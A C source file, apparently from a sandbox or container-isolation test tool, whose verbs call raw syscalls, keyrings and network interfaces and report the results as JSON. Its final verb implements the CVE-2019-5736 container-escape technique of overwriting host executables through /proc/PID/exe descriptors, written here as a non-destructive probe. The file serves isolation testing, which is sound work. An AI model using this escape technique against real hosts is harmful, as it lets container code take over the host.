/* SPDX-License-Identifier: Apache-2.0
 *
 * Verbs that ask the kernel directly.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "out.h"
#include "report.h"
#include "verbs.h"

#define NAMED(x) {#x, SYS_##x}

static const struct {
	const char *name;
	long nr;
} names[] = {
	NAMED(mount),	   NAMED(umount2),  NAMED(mkdirat),    NAMED(unlinkat),	  NAMED(renameat2),
	NAMED(symlinkat),  NAMED(linkat),   NAMED(fchmodat),   NAMED(fchownat),	  NAMED(chroot),
	NAMED(pivot_root), NAMED(unshare),  NAMED(setns),      NAMED(ptrace),	  NAMED(sethostname),
	NAMED(kill),	   NAMED(setuid),   NAMED(setgid),     NAMED(setgroups),  NAMED(personality),
	NAMED(keyctl),	   NAMED(add_key),  NAMED(getpid),     NAMED(getppid),	  NAMED(getuid),
	NAMED(swapon),	   NAMED(reboot),   NAMED(init_module), NAMED(bpf),	  NAMED(perf_event_open),
	NAMED(io_uring_setup), NAMED(socket), NAMED(truncate), NAMED(sched_yield), NAMED(setrlimit),
	NAMED(acct),	   NAMED(syslog),   NAMED(clock_settime), NAMED(uname),	  NAMED(sync),
	NAMED(setdomainname), NAMED(getsid), NAMED(sysinfo),   NAMED(mlockall),	  NAMED(munlockall),
	NAMED(dup),	   NAMED(close),    NAMED(umask),
};

/* "str:TEXT" is a pointer to TEXT, "buf" a pointer to 64 KiB of zeroes, anything else a number */
static long argument(const char *text)
{
	static char zeroes[65536];

	if (!strncmp(text, "str:", 4))
		return (long)(uintptr_t)(text + 4);
	if (!strcmp(text, "buf"))
		return (long)(uintptr_t)zeroes;
	return (long)strtoull(text, NULL, 0);
}

/* syscall NUMBER|NAME [ARGS…] */
int verb_syscall(int argc, char **argv)
{
	long nr = -1, a[6] = {0}, ret;
	int error;

	if (argc < 2)
		return 125;
	for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (!strcmp(names[i].name, argv[1]))
			nr = names[i].nr;
	if (nr < 0)
		nr = argument(argv[1]);
	for (int i = 2; i < argc && i < 8; i++)
		a[i - 2] = argument(argv[i]);
	errno = 0;
	ret = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	error = errno;
	j_open('{');
	j_kstr("verb", "syscall");
	j_kstr("call", argv[1]);
	j_kint("ret", ret);
	if (ret == -1)
		j_kerrno(error);
	j_close('}');
	j_line_end();
	return 0;
}

/* syscall32 NUMBER [ARGS…]: through the 32-bit entry of x86-64 */
int verb_syscall32(int argc, char **argv)
{
	j_open('{');
	j_kstr("verb", "syscall32");
	if (argc > 1)
		j_kstr("call", argv[1]);
#ifdef __x86_64__
	if (argc > 1) {
		long a[3] = {0};
		int ret;

		for (int i = 2; i < argc && i < 5; i++)
			a[i - 2] = strtol(argv[i], NULL, 0);
		__asm__ volatile("int $0x80"
				 : "=a"(ret)
				 : "a"((int)strtol(argv[1], NULL, 0)), "b"(a[0]), "c"(a[1]), "d"(a[2])
				 : "memory", "r8", "r9", "r10", "r11");
		j_kint("ret", ret < 0 && ret > -4096 ? -1 : ret);
		if (ret < 0 && ret > -4096)
			j_kerrno(-ret);
	}
#else
	j_kerrno(ENOSYS);
#endif
	j_close('}');
	j_line_end();
	return 0;
}

/* keyctl search DESCRIPTION | keyctl describe SERIAL | keyctl add DESCRIPTION DATA */
int verb_keyctl(int argc, char **argv)
{
	long ret = -1;
	char text[512] = "";
	int error;

	errno = EINVAL;
	if (argc == 3 && !strcmp(argv[1], "search"))
		ret = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[2], 0);
	else if (argc == 3 && !strcmp(argv[1], "describe"))
		ret = syscall(SYS_keyctl, KEYCTL_DESCRIBE, strtol(argv[2], NULL, 0), text, sizeof(text));
	else if (argc == 4 && !strcmp(argv[1], "add"))
		ret = syscall(SYS_add_key, "user", argv[2], argv[3], strlen(argv[3]), KEY_SPEC_SESSION_KEYRING);
	error = errno;
	j_open('{');
	j_kstr("verb", "keyctl");
	j_kint("ret", ret);
	if (ret < 0)
		j_kerrno(error);
	j_kstr("description", text);
	j_close('}');
	j_line_end();
	return 0;
}

/* netif: name and flags of every interface */
int verb_netif(int argc, char **argv)
{
	struct if_nameindex *list = if_nameindex();
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	(void)argc;
	(void)argv;
	j_open('{');
	j_kstr("verb", "netif");
	j_key("interfaces");
	j_open('{');
	for (struct if_nameindex *at = list; at && at->if_index; at++) {
		struct ifreq request = {0};

		memcpy(request.ifr_name, at->if_name, strnlen(at->if_name, IFNAMSIZ - 1));
		j_kint(at->if_name, ioctl(fd, SIOCGIFFLAGS, &request) < 0 ? -1 : request.ifr_flags);
	}
	j_close('}');
	j_close('}');
	j_line_end();
	if (list)
		if_freenameindex(list);
	close(fd);
	return 0;
}

/*
 * Can the file behind an O_PATH descriptor be written to?  What is written is what was there: the attack may
 * succeed on a machine that is still needed.
 */
static int overwrite(int held)
{
	char path[64], start[2];
	int reader, fd, done = 0;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	reader = open(path, O_RDONLY | O_CLOEXEC);
	if (reader < 0)
		return 0;
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && pread(reader, start, 2, 0) == 2)
		done = pwrite(fd, start, 2, 0) == 2;
	close(reader);
	if (fd >= 0)
		close(fd);
	return done;
}

/*
 * exe-attack FILE: hold on to the executable of every process that appears in /proc, and try to overwrite it
 * until FILE is there (CVE-2019-5736).  Says when it has the first.
 */
int verb_exe_attack(int argc, char **argv)
{
	static struct {
		dev_t dev;
		ino_t ino;
		int fd, won;
	} seen[512];
	int count = 0, mine = getpid();
	struct stat self = {0};

	if (argc != 2)
		return 125;
	stat("/proc/self/exe", &self);
	j_open('{');
	j_kstr("verb", "exe-attack");
	j_kbool("ready", 1);
	j_close('}');
	j_line_end();
	while (access(argv[1], F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name), known = 0, fd;
			char path[64];
			struct stat st;

			if (pid <= 0 || pid == mine)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0 || fstat(fd, &st) < 0)
				continue;
			known = st.st_dev == self.st_dev && st.st_ino == self.st_ino;
			for (int i = 0; i < count; i++)
				known |= seen[i].dev == st.st_dev && seen[i].ino == st.st_ino;
			if (known || count == 512) {
				close(fd);
				continue;
			}
			seen[count].dev = st.st_dev;
			seen[count].ino = st.st_ino;
			seen[count++].fd = fd;
			if (count == 1) {
				j_open('{');
				j_kstr("verb", "exe-attack");
				j_kint("seen", count);
				j_close('}');
				j_line_end();
			}
		}
		if (proc)
			closedir(proc);
		for (int i = 0; i < count; i++)
			if (!seen[i].won)
				seen[i].won = overwrite(seen[i].fd);
	}
	j_open('{');
	j_kstr("verb", "exe-attack");
	j_key("won");
	j_open('[');
	for (int i = 0; i < count; i++) {
		char path[64], target[512] = "";

		if (!seen[i].won)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", seen[i].fd);
		if (readlink(path, target, sizeof(target) - 1) < 0)
			target[0] = 0;
		j_open('{');
		j_kstr("file", target);
		j_kuint("ino", seen[i].ino);
		j_close('}');
	}
	j_close(']');
	j_kint("seen", count);
	j_close('}');
	j_line_end();
	return 0;
}
